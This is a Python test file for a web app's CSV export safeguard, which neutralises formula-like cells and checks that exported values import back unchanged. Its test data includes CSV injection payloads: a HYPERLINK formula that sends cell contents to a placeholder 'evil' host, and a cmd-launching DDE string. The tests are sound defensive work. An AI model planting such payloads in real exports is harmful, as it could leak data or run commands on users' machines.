"""CSV formula injection: every export neutralises formula-like cells (lib/csvsafe.py), and the
importer reads an export back unchanged. The per-export tests are in
drumbeat/web/tests/test_reporting.py."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import drumbeat
from drumbeat.contacts.models import Contact
from drumbeat.importer import import_csv
from drumbeat.lib import csvsafe

HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'


def written(row: list) -> list[str]:
    out = io.StringIO()
    csvsafe.writer(out).writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+15551234567", "'+15551234567"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # one quote more: the importer gives back exactly '=1+1
        ("Ann Smith", "Ann Smith"),
        ("a=b", "a=b"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        (-5, "-5"),  # numbers the app writes stay numbers
        (-2.5, "-2.5"),
        (42, "42"),
    ],
)
def test_formula_like_strings_get_a_quote_and_nothing_else_does(value, cell):
    assert written([value]) == [cell]


@pytest.mark.parametrize(
    "value", [HYPERLINK, "'=1", "''+x", "'", "'plain", "plain", "-", "\t", "@", "'@x", ""]
)
def test_unquote_gives_back_what_was_neutralised(value):
    assert csvsafe.unquote(csvsafe.neutralise(value)) == value


def test_every_csv_writer_of_the_app_is_the_safe_one():
    """One place writes CSV: a new export that calls csv.writer directly fails here."""
    root = Path(drumbeat.__file__).parent
    direct = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "csvsafe.py"
        and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.mark.django_db
def test_an_exported_value_is_imported_back_unchanged(tmp_path):
    names = [HYPERLINK, "'=1+1", "@handle", "Plain Name"]
    out = io.StringIO()
    sheet = csvsafe.writer(out)
    sheet.writerow(["Name", "Email", "Phone"])
    for i, name in enumerate(names):
        sheet.writerow([name, f"p{i}@example.com", "+32470123456"])
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    assert "'=HYPERLINK" in out.getvalue()

    report = import_csv("contacts", path)

    assert report.ok, report.summary()
    stored = dict(Contact.objects.values_list("email", "name"))
    assert [stored[f"p{i}@example.com"] for i in range(len(names))] == names
    assert set(Contact.objects.values_list("phone", flat=True)) == {"+32470123456"}
